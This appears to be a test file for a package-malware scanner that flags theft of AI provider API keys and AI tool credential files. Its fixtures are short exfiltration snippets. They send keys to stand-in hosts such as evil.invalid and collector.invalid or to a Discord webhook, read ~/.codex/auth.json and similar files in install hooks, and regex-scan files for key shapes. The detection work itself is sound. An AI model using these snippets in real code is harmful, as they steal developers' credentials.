import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { expectAtMostLow, finding } from '../test/helpers/findings.js';
import { aiKeyProvider, isProviderHost } from '../src/engine/ai-indicators.js';
import { HOLE } from '../src/engine/api.js';

const RULE = 'ai-keys';
const FLOW = 'exfiltration-flow';

const sdk = (host: string, env = 'OPENAI_API_KEY') =>
  `class Client {\n  constructor(opts = {}) { this.apiKey = opts.apiKey ?? process.env.${env}; }\n}\nmodule.exports = (prompt) => fetch('https://${host}/v1/chat/completions', { method: 'POST', headers: { Authorization: 'Bearer ' + process.env.${env} }, body: JSON.stringify({ prompt }) });`;

describe('ai-keys: an SDK and its own provider', () => {
  test.each([
    ['OpenAI', 'api.openai.com', 'OPENAI_API_KEY'],
    ['Anthropic', 'api.anthropic.com', 'ANTHROPIC_API_KEY'],
    ['Google', 'generativelanguage.googleapis.com', 'GEMINI_API_KEY'],
    ['Mistral', 'api.mistral.ai', 'MISTRAL_API_KEY'],
    ['Groq', 'api.groq.com', 'GROQ_API_KEY'],
    ['Hugging Face', 'router.huggingface.co', 'HF_TOKEN'],
    ['OpenRouter', 'openrouter.ai', 'OPENROUTER_API_KEY'],
    ['Bedrock', 'bedrock-runtime.us-east-1.amazonaws.com', 'AWS_BEARER_TOKEN_BEDROCK'],
    ['Azure OpenAI', 'myres.openai.azure.com', 'AZURE_OPENAI_API_KEY'],
  ])('%s key sent to its own API host is low and clean', (_name, host, env) => {
    const r = scanFiles({ 'index.js': sdk(host, env) });
    expect(r.of(FLOW)).toEqual([finding('low', [], { message: expect.stringContaining('own API host') })]);
    expect(r.of(RULE)).toEqual([finding('low', ['source:ai-key'], { message: expect.stringContaining(env) })]);
    expectAtMostLow(r.findings);
    expect(r.verdict).toBe('clean');
  });

  test('a regional Vertex host with an unknown region is still Google', () => {
    const r = scanFiles({ 'index.js': "module.exports = (region, b) => fetch(`https://${region}-aiplatform.googleapis.com/v1/x?key=${process.env.GOOGLE_API_KEY}`, { method: 'POST', body: b });" });
    expect(r.of(FLOW)).toEqual([finding('low')]);
    expect(r.verdict).toBe('clean');
  });

  test('a provider switch (one key or the other, picked at run time) is not a bundle', () => {
    const r = scanFiles({
      'index.js':
        "const anthropicKey = process.env.ANTHROPIC_API_KEY;\nconst openrouterKey = process.env.OPENROUTER_API_KEY;\nconst ollamaKey = process.env.OLLAMA_API_KEY;\nmodule.exports = async (body) => {\n  const apiKey = anthropicKey ?? openrouterKey ?? ollamaKey;\n  return fetch('https://api.anthropic.com/v1/messages', { method: 'POST', headers: { 'x-api-key': apiKey }, body });\n};\nmodule.exports.other = (body, useRouter) => { let key; if (useRouter) key = openrouterKey; else key = anthropicKey; return fetch(useRouter ? 'https://openrouter.ai/api/v1/chat/completions' : 'https://api.anthropic.com/v1/messages', { headers: { authorization: 'Bearer ' + key }, body }); };",
    });
    expect(r.of(FLOW).filter((f) => f.severity !== 'low' && f.severity !== 'medium')).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('a key that reaches another provider\'s API only through a shared request object is not theft', () => {
    const r = scanFiles({
      'index.js':
        "function pick(input) { return input.model || 'gpt-x'; }\nasync function callOpenAI(input) { const model = pick(input); return fetch('https://api.openai.com/v1/chat/completions', { method: 'POST', headers: { authorization: 'Bearer ' + process.env.OPENAI_API_KEY }, body: JSON.stringify({ model, prompt: input.prompt }) }); }\nexports.run = (prompt) => callOpenAI({ prompt, apiKey: process.env.ANTHROPIC_API_KEY });",
    });
    expect(r.of(FLOW).map((f) => f.severity)).toEqual(['low', 'low']);
    expect(r.verdict).toBe('clean');
  });

  test('an AI gateway (Helicone) carrying the key and its own key is configured, not stolen', () => {
    const r = scanFiles({ 'index.js': "module.exports = (b) => fetch('https://oai.helicone.ai/v1/chat/completions', { method: 'POST', headers: { Authorization: 'Bearer ' + process.env.OPENAI_API_KEY, 'Helicone-Auth': 'Bearer ' + process.env.HELICONE_API_KEY }, body: b });" });
    expect(r.verdict).toBe('clean');
  });
});

describe('ai-keys: the same key elsewhere', () => {
  test('the OpenAI key sent to another host is critical and malicious', () => {
    const r = scanFiles({ 'index.js': sdk('api.collector.invalid') });
    expect(r.of(FLOW)).toEqual([finding('critical', ['flow:ai-key'], { message: expect.stringContaining("host that is not OpenAI's") })]);
    expect(r.verdict).toBe('malicious');
  });

  test("an Anthropic key sent to OpenAI's host is still another host", () => {
    const r = scanFiles({ 'index.js': "fetch('https://api.openai.com/v1/x', { headers: { 'x-api-key': process.env.ANTHROPIC_API_KEY } });" });
    expect(r.of(FLOW)).toEqual([finding('critical', ['flow:ai-key'])]);
    expect(r.verdict).toBe('malicious');
  });

  test('keys bundled together are a harvest even towards a provider host', () => {
    const r = scanFiles({ 'index.js': "const keys = { a: process.env.ANTHROPIC_API_KEY, o: process.env.OPENAI_API_KEY };\nfetch('https://api.openai.com/v1/x', { method: 'POST', body: JSON.stringify(keys) });" });
    expect(r.of(FLOW)).toContainEqual(finding('critical', ['flow:ai-key'], { message: expect.stringContaining('bundled with process.env.OPENAI_API_KEY') }));
    expect(r.verdict).toBe('malicious');
  });

  test('a key bundled with other secrets is a harvest', () => {
    const r = scanFiles({ 'index.js': "fetch('https://api.openai.com/v1/x', { method: 'POST', body: JSON.stringify({ k: process.env.OPENAI_API_KEY, n: process.env.NPM_TOKEN }) });" });
    expect(r.of(FLOW)).toContainEqual(finding('critical', ['flow:ai-key'], { message: expect.stringContaining('NPM_TOKEN') }));
    expect(r.verdict).toBe('malicious');
  });

  test('a loop over several providers\' key names is a harvest', () => {
    const r = scanFiles({ 'index.js': "const out = {};\nfor (const k of ['OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'GEMINI_API_KEY']) out[k] = process.env[k];\nrequire('https').request({ host: 'api.x.invalid', method: 'POST' }).end(JSON.stringify(out));" });
    expect(r.of(FLOW)).toEqual([finding('critical', ['flow:ai-key'], { message: expect.stringContaining('harvest') })]);
    expect(r.of(RULE)).toContainEqual(finding('low', ['ai-key-scan'], { message: expect.stringContaining('3 AI providers') }));
    expect(r.verdict).toBe('malicious');
  });

  test('a key sent to a Discord webhook is critical', () => {
    const r = scanFiles({ 'index.js': "fetch('https://discord.com/api/webhooks/000/xyz', { method: 'POST', body: JSON.stringify({ content: process.env.GROQ_API_KEY }) });" });
    expect(r.of(FLOW)).toEqual([finding('critical', ['flow:ai-key'], { message: expect.stringContaining('data drop') })]);
    expect(r.verdict).toBe('malicious');
  });

  test('destructured from process.env, it is one key (not the whole environment) going elsewhere', () => {
    const r = scanFiles({ 'index.js': "const { OPENAI_API_KEY } = process.env;\nfetch('https://evil.invalid/', { method: 'POST', body: OPENAI_API_KEY });" });
    expect(r.of(FLOW)).toEqual([finding('critical', ['flow:ai-key'], { message: expect.stringContaining('process.env.OPENAI_API_KEY') })]);
    expect(r.of(RULE)).toEqual([finding('low', ['source:ai-key'])]);
    expect(r.verdict).toBe('malicious');
  });

  test('destructured and sent to its own host, it stays clean', () => {
    const r = scanFiles({ 'index.js': "const { ANTHROPIC_API_KEY } = process.env;\nmodule.exports = (b) => fetch('https://api.anthropic.com/v1/messages', { method: 'POST', headers: { 'x-api-key': ANTHROPIC_API_KEY }, body: b });" });
    expect(r.of(FLOW)).toEqual([finding('low')]);
    expect(r.verdict).toBe('clean');
  });
});

describe('ai-keys: install time', () => {
  test('reading an AI key in a postinstall file is high and malicious, wherever it goes', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'node p.js' } }), 'p.js': "const k = process.env.ANTHROPIC_API_KEY;\nrequire('fs').writeFileSync('/tmp/.cache-k', k);" });
    expect(r.of(RULE)).toEqual([finding('high', ['source:ai-key'], { reach: 'install', message: expect.stringContaining('install-time code') })]);
    expect(r.verdict).toBe('malicious');
  });

  test('install-time code sending the key to its own host is still theft of the read', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'node p.js' } }), 'p.js': "fetch('https://api.openai.com/v1/models', { headers: { Authorization: 'Bearer ' + process.env.OPENAI_API_KEY } });" });
    expect(r.verdict).toBe('malicious');
  });

  test('a postinstall that only checks whether the key is set is low and clean', () => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'node hint.js' } }), 'hint.js': "if (!process.env.OPENAI_API_KEY) console.log('Set OPENAI_API_KEY to use the CLI.');\nif (typeof process.env.GEMINI_API_KEY === 'undefined') console.log('Gemini is optional.');" });
    expect(r.of(RULE)).toEqual([finding('low', [], { message: expect.stringContaining('checks whether') }), finding('low', [], { message: expect.stringContaining('GEMINI_API_KEY') })]);
    expect(r.verdict).toBe('clean');
  });
});

describe("ai-keys: AI tools' credential files", () => {
  test.each([
    ["path.join(os.homedir(), '.claude', '.credentials.json')", 'Claude Code OAuth credentials'],
    ["path.join(os.homedir(), '.codex', 'auth.json')", 'Codex CLI credentials'],
    ["path.join(os.homedir(), '.gemini', 'oauth_creds.json')", 'Gemini CLI credentials'],
    ["path.join(os.homedir(), '.config', 'github-copilot', 'apps.json')", 'GitHub Copilot tokens'],
  ])('reading %s at install is malicious', (expr, label) => {
    const r = scanFiles({ 'package.json': manifest({ scripts: { postinstall: 'node p.js' } }), 'p.js': `const fs = require('fs'); const os = require('os'); const path = require('path');\nconst t = fs.readFileSync(${expr}, 'utf8');\nmodule.exports = t.length;` });
    expect(r.of('credential-files')).toContainEqual(finding('high', ['source:credential-file', 'source:ai-key'], { message: expect.stringContaining(label) }));
    expect(r.verdict).toBe('malicious');
  });

  test('a library that sends ~/.codex/auth.json anywhere is malicious', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os');\nmodule.exports = () => fetch('https://api.openai.com/v1/sync', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.codex/auth.json') });" });
    expect(r.of(FLOW)).toContainEqual(finding('critical', ['flow:secret'], { message: expect.stringContaining('Codex CLI credentials') }));
    expect(r.verdict).toBe('malicious');
  });

  test('a usage tracker reading ~/.claude.json on demand, with no way out, is clean', () => {
    const r = scanFiles({ 'index.js': "const fs = require('fs'); const os = require('os'); const path = require('path');\nmodule.exports = () => JSON.parse(fs.readFileSync(path.join(os.homedir(), '.claude.json'), 'utf8')).numStartups;" });
    expect(r.of('credential-files')).toEqual([finding('medium', ['source:ai-key'])]);
    expect(r.verdict).toBe('clean');
  });
});

describe('ai-keys: pattern scans', () => {
  test.each([
    ['an Anthropic key regex', '/sk-ant-api03-[A-Za-z0-9_-]{90,}/g', 'Anthropic'],
    ['an OpenAI project key regex', '/sk-proj-[A-Za-z0-9_-]{40,}/g', 'OpenAI'],
    ['a Google API key regex', '/AIza[0-9A-Za-z_-]{35}/g', 'Google'],
    ['an env-name regex over several providers', '/^(OPENAI|ANTHROPIC|GEMINI)_API_KEY$/', 'several AI providers'],
  ])('%s run over files in install-time code is a medium key scan, malicious with a way out', (_label, re, what) => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node s.js' } }),
      's.js': `const fs = require('fs');\nconst RE = ${re};\nconst f = process.argv[2];\nconst hits = fs.readFileSync(f, 'utf8').match(RE);\nrequire('https').request({ host: 'collector.invalid', method: 'POST' }).end(String(hits));`,
    });
    expect(r.of(RULE)).toContainEqual(finding('medium', ['ai-key-scan'], { reach: 'install', message: expect.stringContaining(what) }));
    expect(r.verdict).toBe('malicious');
  });

  test('in library code a key-shape regex is low: AI tools validate key formats; flows decide', () => {
    const r = scanFiles({ 'index.js': "const RE = /sk-ant-[A-Za-z0-9_-]{20,}/;\nmodule.exports = (key, body) => { if (!RE.test(key)) throw new Error('bad key'); return fetch('https://api.anthropic.com/v1/messages', { method: 'POST', headers: { 'x-api-key': key }, body }); };" });
    expect(r.of(RULE)).toEqual([finding('low', ['ai-key-scan'])]);
    expect(r.verdict).toBe('clean');
  });

  test('masking keys in logs is not a key scan', () => {
    const r = scanFiles({ 'index.js': "const KEY_RE = /sk-(?:proj|ant)-[A-Za-z0-9_-]{20,}/g;\nexports.redact = (s) => s.replace(KEY_RE, 'sk-***');\nexports.mask = (s) => s.replace(/AIza[0-9A-Za-z_-]{35}/g, '***');" });
    expect(r.of(RULE)).toEqual([]);
  });

  test('a key-shape regex at install time with network access is malicious', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { preinstall: 'node s.js' } }),
      's.js': "const fs = require('fs'); const os = require('os');\nconst RE = new RegExp('sk-ant-[A-Za-z0-9_-]{20,}', 'g');\nconst found = fs.readdirSync(os.homedir()).join('\\n').match(RE);\nrequire('https').get('https://collector.invalid/?k=' + found);",
    });
    expect(r.of(RULE)).toContainEqual(finding('medium', ['ai-key-scan'], { reach: 'install' }));
    expect(r.verdict).toBe('malicious');
  });
});

describe('ai-keys stays quiet', () => {
  test('a secret scanner with key-shape regexes and no way out is not flagged beyond medium', () => {
    const r = scanFiles({ 'index.js': "module.exports = [{ id: 'anthropic', re: /sk-ant-[A-Za-z0-9_-]{20,}/ }, { id: 'google', re: /AIza[0-9A-Za-z_-]{35}/ }];" });
    expect(r.verdict).toBe('clean');
  });

  test('a provider table of key names (an AI CLI\'s settings) is not a harvest list by itself', () => {
    const r = scanFiles({ 'index.js': "module.exports = { openai: 'OPENAI_API_KEY', anthropic: 'ANTHROPIC_API_KEY', google: 'GEMINI_API_KEY' };" });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('other secrets are still env-access\'s, and AI keys are not reported twice', () => {
    const r = scanFiles({ 'index.js': "exports.a = process.env.OPENAI_API_KEY;\nexports.b = process.env.GITHUB_TOKEN;" });
    expect(r.of('env-access').map((f) => f.message)).toEqual([expect.stringContaining('GITHUB_TOKEN')]);
    expect(r.of(RULE).map((f) => f.message)).toEqual([expect.stringContaining('OPENAI_API_KEY')]);
  });
});

describe('ai-indicators', () => {
  test('key names map to providers', () => {
    expect(aiKeyProvider('ANTHROPIC_API_KEY')).toBe('anthropic');
    expect(aiKeyProvider('AZURE_OPENAI_API_KEY')).toBe('azure-openai');
    expect(aiKeyProvider('GOOGLE_GENERATIVE_AI_API_KEY')).toBe('google');
    expect(aiKeyProvider('HF_TOKEN')).toBe('huggingface');
    expect(aiKeyProvider('XAI_API_KEY')).toBe('xai');
    expect(aiKeyProvider('DEEPSEEK_API_KEY')).toBe('deepseek');
    expect(aiKeyProvider('COHERE_API_KEY')).toBe('cohere');
    expect(aiKeyProvider('GITHUB_TOKEN')).toBeUndefined();
    expect(aiKeyProvider('OPENAI_BASE_URL')).toBeUndefined();
  });

  test('provider hosts, with unknown leading parts judged by their suffix', () => {
    expect(isProviderHost('openai', 'api.openai.com', HOLE)).toBe(true);
    expect(isProviderHost('openai', 'api.openai.com.evil.invalid', HOLE)).toBe(false);
    expect(isProviderHost('openai', 'notopenai.com', HOLE)).toBe(false);
    expect(isProviderHost('google', `${HOLE}-aiplatform.googleapis.com`, HOLE)).toBe(true);
    expect(isProviderHost('anthropic', `${HOLE}`, HOLE)).toBe(false);
  });
});
